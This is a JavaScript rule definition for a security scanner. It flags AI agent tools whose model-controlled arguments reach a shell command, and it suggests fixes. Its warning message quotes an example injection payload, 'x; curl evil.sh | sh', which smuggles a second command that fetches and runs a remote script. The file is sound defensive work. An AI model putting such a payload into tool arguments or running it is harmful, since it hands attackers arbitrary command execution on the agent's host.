import { defineSinkRule } from './sink-rule.js';

export default defineSinkRule({
  id: 'tool-input/command-injection',
  sinkKind: 'command',
  severity: 'error',
  description: 'A model-controlled tool argument reaches a shell command string or chooses the program to run (os.system, subprocess with shell=True or a string, child_process.exec, spawn with shell: true, execa with shell, zx $).',
  fix: 'Run a fixed program with an argv array and no shell, pick the command from an allowlist, or quote with shlex.quote.',
  messages: {
    flow:
      'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "x; curl evil.sh | sh" runs arbitrary commands as the agent. Run a fixed program with an argv array and no shell, pick the command from an allowlist, or quote with shlex.quote.',
  },
  cwe: [78],
  securitySeverity: 9.8,
  precision: 'high',
});
